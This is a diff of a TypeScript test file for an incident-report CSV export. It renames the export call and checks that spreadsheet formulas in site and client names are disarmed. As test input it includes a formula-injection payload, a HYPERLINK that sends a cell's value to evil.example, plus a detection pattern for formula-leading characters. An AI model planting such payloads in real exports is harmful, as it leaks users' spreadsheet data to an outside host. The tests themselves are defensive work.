@@ -2,9 +2,10 @@ import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import type { IncidentWithTimeline } from '../../../src/core/incident';
-import { toCsv } from '../../../src/main/reports/incident-csv';
+import { csvText } from '../../../src/main/reports/incident-csv';
 import { createWords } from '../../../src/main/words';
 import { nightMs, sampleIncident, sampleTimeline } from '../../support/history-samples';
+import { wholeText } from '../../support/incident-text';
 
 const german = createWords();
 german.setLanguage('de');
@@ -25,7 +26,7 @@ function readBack(csv: string): string[][] {
 describe('the export as CSV', () => {
   it('is a header and a row for each incident', () => {
     const tagged = { ...withTimeline({ endedAt: nightMs + 90_400 }), tags: ['Hetzner', '=1+1'] };
-    const csv = toCsv([tagged, withTimeline({ clientName: null })], german);
+    const csv = wholeText(csvText(german), [tagged, withTimeline({ clientName: null })]);
     expect(csv.startsWith('\uFEFFKennung,Seite,Adresse,Kunde,Ursache,')).toBe(true);
     expect(csv.endsWith('\r\n')).toBe(true);
     const [header, first, second, end] = readBack(csv);
@@ -55,7 +56,7 @@ describe('the export as CSV', () => {
   });
 
   it('is a header alone where nothing happened', () => {
-    expect(readBack(toCsv([], english))).toHaveLength(2);
+    expect(readBack(wholeText(csvText(english), []))).toHaveLength(2);
   });
 
   it.each([
@@ -68,11 +69,9 @@ describe('the export as CSV', () => {
     ['=HYPERLINK("http://evil.example?x="&A1,"ok")\n,=2', '\'=HYPERLINK("http://evil.example?x="&A1,"ok")\n,=2'],
     ['a=1', 'a=1'],
   ])('disarms the formula %j', (siteName, cell) => {
-    expect(readBack(toCsv([withTimeline({ siteName, clientName: siteName })], english))[1]?.slice(1, 4)).toEqual([
-      cell,
-      'https://baeckerei-mueller.example/',
-      cell,
-    ]);
+    expect(
+      readBack(wholeText(csvText(english), [withTimeline({ siteName, clientName: siteName })]))[1]?.slice(1, 4),
+    ).toEqual([cell, 'https://baeckerei-mueller.example/', cell]);
   });
 
   it('comes back as it was, whatever a name is made of, and with no cell that begins a formula', () => {
@@ -82,7 +81,7 @@ describe('the export as CSV', () => {
     fc.assert(
       fc.property(fc.array(fc.tuple(hostile, hostile), { maxLength: 5 }), (names) => {
         const incidents = names.map(([siteName, clientName]) => withTimeline({ siteName, clientName }));
-        const rows = readBack(toCsv(incidents, english)).slice(1, -1);
+        const rows = readBack(wholeText(csvText(english), incidents)).slice(1, -1);
         const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
         expect(rows.flat().filter(isFormula)).toEqual([]);
         const disarmed = (text: string): string => (/^[=+\-@\t\r\n]/.test(text) ? `'${text}` : text);
